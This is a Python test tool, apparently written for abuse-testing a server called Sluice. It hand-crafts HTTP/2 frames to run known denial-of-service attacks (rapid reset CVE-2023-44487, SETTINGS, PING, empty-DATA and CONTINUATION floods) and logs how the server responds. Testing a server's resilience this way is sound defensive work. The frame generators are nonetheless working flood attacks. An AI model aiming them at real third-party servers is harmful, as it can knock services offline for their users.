#!/usr/bin/env python3
"""A hostile HTTP/2 client for Sluice's abuse tests (pure stdlib, frames written by hand).

  h2_hostile.py --port P [--host H] [--tls] [--sni NAME] [--wait S] [--authority A] [--path /P] MODE [N]

Connects (h2c with prior knowledge, or TLS with ALPN h2 and no certificate verification), sends
the client preface and an empty SETTINGS, then MODE:
  rapid-reset N          N x (HEADERS GET / with END_STREAM|END_HEADERS on a new stream 1, 3,
                         5, ... + RST_STREAM CANCEL) -- the 2023 rapid reset (CVE-2023-44487)
  settings-flood N       N SETTINGS frames (MAX_CONCURRENT_STREAMS=100), each wants an ACK
  empty-data N           one POST stream (HEADERS without END_STREAM), then N empty DATA frames
                         without END_STREAM (CVE-2019-9518)
  continuation-flood N   HEADERS without END_HEADERS, then N CONTINUATION frames of 1 KiB of
                         junk header fields, never ending the header block (2024)
  ping-flood N           N PING frames (CVE-2019-9512)
  get N                  N well-behaved GET / streams (a control: N responses expected)
Header blocks are HPACK literals without indexing (new names), so no HPACK state is involved.
One loop writes the frames while it parses what comes back (and ACKs the peer's SETTINGS and
PINGs, as a client must), so a peer that writes a lot cannot dead-lock the writer. After the last
frame is written it reads until the peer closes or --wait (5) s pass, then prints one JSON line:
  {"mode", "n", "alpn", "sent_frames" (queued for writing before the peer closed),
   "send_error" (null or the OS error while writing: the
   peer closed first), "goaway" (bool), "goaway_error" (code name, e.g. ENHANCE_YOUR_CALM),
   "goaway_last_stream", "goaway_after_ms", "closed" (bool), "closed_after_ms" (from the
   first attack frame; null when the peer did not close), "frames_received" {TYPE: count},
   "headers_responses" (streams that got response HEADERS), "statuses" {status: count}
   (":status" of those, when decodable), "rst_received", "bytes_received"}
Exit 0 (the JSON says what happened); 2 when it cannot connect.
"""
import argparse
import json
import selectors
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
TYPE_NAMES = ["DATA", "HEADERS", "PRIORITY", "RST_STREAM", "SETTINGS", "PUSH_PROMISE", "PING",
              "GOAWAY", "WINDOW_UPDATE", "CONTINUATION"]
END_STREAM, ACK, END_HEADERS, PADDED, PRIORITY_FLAG = 0x1, 0x1, 0x4, 0x8, 0x20
ERROR_NAMES = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
               "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR",
               "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]
CANCEL = 8
SETTINGS_MAX_CONCURRENT_STREAMS = 3
# HPACK static table entries 8..14 are ":status" with these values
STATIC_STATUS = {8: "200", 9: "204", 10: "206", 11: "304", 12: "400", 13: "404", 14: "500"}
# Huffman codes (RFC 7541 Appendix B) of the digits: enough to read any ":status" value
HUFF_DIGITS = {("00000", "0"), ("00001", "1"), ("00010", "2"), ("011001", "3"), ("011010", "4"),
               ("011011", "5"), ("011100", "6"), ("011101", "7"), ("011110", "8"), ("011111", "9")}


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid & 0x7FFFFFFF) + payload


def hpack_int(n, prefix_bits, first=0):
    limit = (1 << prefix_bits) - 1
    if n < limit:
        return bytes([first | n])
    out = bytearray([first | limit])
    n -= limit
    while n >= 128:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def literal(name, value):
    """Literal header field without indexing, new name, no Huffman."""
    name, value = name.encode(), value.encode()
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def request_block(method, authority, path=None):
    path = path or ARGS.path
    return (literal(":method", method) + literal(":scheme", "https" if ARGS.tls else "http")
            + literal(":authority", authority) + literal(":path", path)
            + literal("user-agent", "h2_hostile"))


def read_hpack_int(buf, i, prefix_bits):
    limit = (1 << prefix_bits) - 1
    n = buf[i] & limit
    i += 1
    if n < limit:
        return n, i
    shift = 0
    while True:
        b = buf[i]
        i += 1
        n += (b & 0x7F) << shift
        shift += 7
        if not b & 0x80:
            return n, i


def huff_digits(data):
    bits = "".join(format(b, "08b") for b in data)
    out, cur = "", ""
    codes = dict(HUFF_DIGITS)
    for bit in bits:
        cur += bit
        if cur in codes:
            out += codes[cur]
            cur = ""
        elif len(cur) > 7 or (len(cur) > 6 and "0" in cur):
            return None  # not a digit (or padding longer than 7 bits)
    return out if set(cur) <= {"1"} else None  # padding: the EOS prefix, all ones


def status_of(block):
    """The :status of a response header block when it comes first (as servers send it)."""
    try:
        b = block[0]
        if b & 0x80:  # indexed field
            idx, _ = read_hpack_int(block, 0, 7)
            return STATIC_STATUS.get(idx, "idx%d" % idx)
        if b & 0xC0 == 0x40:
            idx, i = read_hpack_int(block, 0, 6)
        elif b & 0xF0 in (0x00, 0x10):
            idx, i = read_hpack_int(block, 0, 4)
        else:
            return "?"
        if idx == 0:  # new name: ":status" spelled out (a Huffman-coded name is not read)
            if block[i] & 0x80:
                return "?"
            n, i = read_hpack_int(block, i, 7)
            name = block[i:i + n]
            i += n
            if name != b":status":
                return "?"
        elif idx not in STATIC_STATUS:
            return "?"
        huff = block[i] & 0x80
        n, i = read_hpack_int(block, i, 7)
        raw = block[i:i + n]
        return (huff_digits(raw) if huff else raw.decode()) or "?"
    except (IndexError, UnicodeDecodeError):
        return "?"


class Conn:
    """One connection driven by a single-threaded loop (an SSL object must not be read and
    written from two threads): writes the queued frames while reading and parsing whatever
    the peer sends (and queueing the ACKs it asks for)."""

    def __init__(self, sock):
        self.sock = sock
        self.out = bytearray()
        self.ctrl = bytearray()  # our ACKs: held back while a header block of ours is open
        self.in_block = False
        self.t0 = None
        self.frames = {}
        self.goaway = None
        self.goaway_at = None
        self.closed_at = None
        self.read_error = None
        self.send_error = None
        self.responded = set()
        self.statuses = {}
        self.header_blocks = {}
        self.rst = 0
        self.bytes = 0
        self.inbuf = b""

    def send(self, data):
        self.ctrl += data

    def queue(self, f):
        """One attack frame into the output; ACKs go in only between header blocks (a frame
        inside HEADERS..END_HEADERS would be a protocol error of ours, not the test's)."""
        self.out += f
        if f[3] == HEADERS:
            self.in_block = not f[4] & END_HEADERS
        elif f[3] == CONTINUATION and f[4] & END_HEADERS:
            self.in_block = False

    def _read(self):
        """Read what is there; False once the peer closed (or the connection failed)."""
        while True:
            try:
                d = self.sock.recv(65536)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                return True
            except (ssl.SSLError, OSError) as e:
                self.read_error = type(e).__name__ + ": " + str(e)
                return False
            if not d:
                return False
            self.bytes += len(d)
            self.inbuf += d
            buf = self.inbuf
            while len(buf) >= 9:
                n = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + n:
                    break
                ftype, flags = buf[3], buf[4]
                sid = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                self.on_frame(ftype, flags, sid, buf[9:9 + n])
                buf = buf[9 + n:]
            self.inbuf = buf

    def _write(self):
        try:
            n = self.sock.send(self.out[:16384])
            del self.out[:n]
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
            pass
        except (ssl.SSLError, OSError) as e:
            self.send_error = type(e).__name__ + ": " + str(e)
            self.out.clear()

    def run(self, frames, wait):
        """Write FRAMES (pulled lazily, ~64 KiB queued at a time), then read until the peer
        closes or WAIT seconds pass; True when the peer closed."""
        sel = selectors.DefaultSelector()
        self.sock.setblocking(False)
        sel.register(self.sock, selectors.EVENT_READ | selectors.EVENT_WRITE)
        it = iter(frames)
        more = True
        deadline = None
        self.t0 = time.monotonic()
        while True:
            while more and len(self.out) < 65536 and self.send_error is None:
                f = next(it, None)
                if f is None:
                    more = False
                else:
                    self.queue(f)
            if self.ctrl and not self.in_block:
                self.out += self.ctrl
                self.ctrl.clear()
            if not more and not self.out and deadline is None:
                deadline = time.monotonic() + wait
            if self.send_error is not None and deadline is None:
                deadline = time.monotonic() + wait
            timeout = None if deadline is None else deadline - time.monotonic()
            if timeout is not None and timeout <= 0:
                return False
            sel.modify(self.sock, selectors.EVENT_READ | (selectors.EVENT_WRITE if self.out else 0))
            events = sel.select(timeout if timeout is not None else 1.0)
            for _, ev in events:
                if ev & selectors.EVENT_READ or (isinstance(self.sock, ssl.SSLSocket) and self.sock.pending()):
                    if not self._read():
                        self.closed_at = time.monotonic()
                        return True
                if ev & selectors.EVENT_WRITE and self.out:
                    self._write()

    def on_frame(self, ftype, flags, sid, payload):
        name = TYPE_NAMES[ftype] if ftype < len(TYPE_NAMES) else "UNKNOWN_%d" % ftype
        self.frames[name] = self.frames.get(name, 0) + 1
        if ftype == SETTINGS and not flags & ACK:
            self.send(frame(SETTINGS, ACK, 0))
        elif ftype == PING and not flags & ACK:
            self.send(frame(PING, ACK, 0, payload))
        if ftype == GOAWAY and self.goaway is None:
            last, code = struct.unpack(">II", payload[:8])
            self.goaway = (last & 0x7FFFFFFF, code)
            self.goaway_at = time.monotonic()
        elif ftype == RST_STREAM:
            self.rst += 1
        elif ftype == HEADERS:
            block = payload
            if flags & PADDED:
                block = block[1:len(block) - payload[0]]
            if flags & PRIORITY_FLAG:
                block = block[5:]
            if sid not in self.responded:
                self.responded.add(sid)
                if flags & END_HEADERS:
                    self.count_status(block)
                else:
                    self.header_blocks[sid] = block
        elif ftype == CONTINUATION and sid in self.header_blocks:
            self.header_blocks[sid] += payload
            if flags & END_HEADERS:
                self.count_status(self.header_blocks.pop(sid))

    def count_status(self, block):
        s = status_of(block)
        self.statuses[s] = self.statuses.get(s, 0) + 1


def attack(mode, n, auth):
    """The frames of MODE, one byte string each (after the preface and SETTINGS)."""
    if mode == "rapid-reset":
        blk = request_block("GET", auth)
        for i in range(n):
            sid = 2 * i + 1
            yield frame(HEADERS, END_STREAM | END_HEADERS, sid, blk)
            yield frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL))
    elif mode == "settings-flood":
        for _ in range(n):
            yield frame(SETTINGS, 0, 0, struct.pack(">HI", SETTINGS_MAX_CONCURRENT_STREAMS, 100))
    elif mode == "empty-data":
        yield frame(HEADERS, END_HEADERS, 1, request_block("POST", auth) + literal("content-type", "text/plain"))
        for _ in range(n):
            yield frame(DATA, 0, 1)
    elif mode == "continuation-flood":
        yield frame(HEADERS, END_STREAM, 1, request_block("GET", auth))
        for i in range(n):
            yield frame(CONTINUATION, 0, 1, literal("x-junk-%d" % i, "j" * (1024 - 16 - len(str(i)))))
    elif mode == "ping-flood":
        for i in range(n):
            yield frame(PING, 0, 0, struct.pack(">Q", i))
    elif mode == "get":
        blk = request_block("GET", auth)
        for i in range(n):
            yield frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, blk)


def main():
    global ARGS
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--tls", action="store_true")
    ap.add_argument("--sni", default="localhost")
    ap.add_argument("--authority", help="default: HOST:PORT")
    ap.add_argument("--path", default="/", help="the requests' :path (default /)")
    ap.add_argument("--wait", type=float, default=5.0, help="seconds to read after the last frame")
    ap.add_argument("mode", choices=["rapid-reset", "settings-flood", "empty-data", "continuation-flood", "ping-flood", "get"])
    ap.add_argument("n", type=int, nargs="?", default=1000)
    ARGS = a = ap.parse_args()
    auth = a.authority or "%s:%d" % (a.host, a.port)

    try:
        raw = socket.create_connection((a.host, a.port), timeout=5)
    except OSError as e:
        print(json.dumps({"mode": a.mode, "error": "connect: %s" % e}), flush=True)
        sys.exit(2)
    raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    alpn = None
    sock = raw
    if a.tls:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        try:
            sock = ctx.wrap_socket(raw, server_hostname=a.sni)
        except (ssl.SSLError, OSError) as e:
            print(json.dumps({"mode": a.mode, "error": "tls: %s" % e}), flush=True)
            sys.exit(2)
        alpn = sock.selected_alpn_protocol()
    c = Conn(sock)
    c.out += PREFACE + frame(SETTINGS, 0, 0)
    counted = []

    def counting():
        for f in attack(a.mode, a.n, auth):
            counted.append(1)
            yield f
    closed = c.run(counting(), a.wait)
    try:
        sock.close()
    except OSError:
        pass

    def ms(x):
        return None if x is None else round((x - c.t0) * 1000, 1)
    g = c.goaway
    print(json.dumps({
        "mode": a.mode, "n": a.n, "alpn": alpn, "sent_frames": len(counted), "send_error": c.send_error,
        "goaway": g is not None,
        "goaway_error": (ERROR_NAMES[g[1]] if g[1] < len(ERROR_NAMES) else "0x%x" % g[1]) if g else None,
        "goaway_last_stream": g[0] if g else None, "goaway_after_ms": ms(c.goaway_at),
        "closed": closed, "closed_after_ms": ms(c.closed_at) if closed else None,
        "read_error": c.read_error, "frames_received": c.frames,
        "headers_responses": len(c.responded), "statuses": c.statuses,
        "rst_received": c.rst, "bytes_received": c.bytes,
    }), flush=True)


if __name__ == "__main__":
    main()
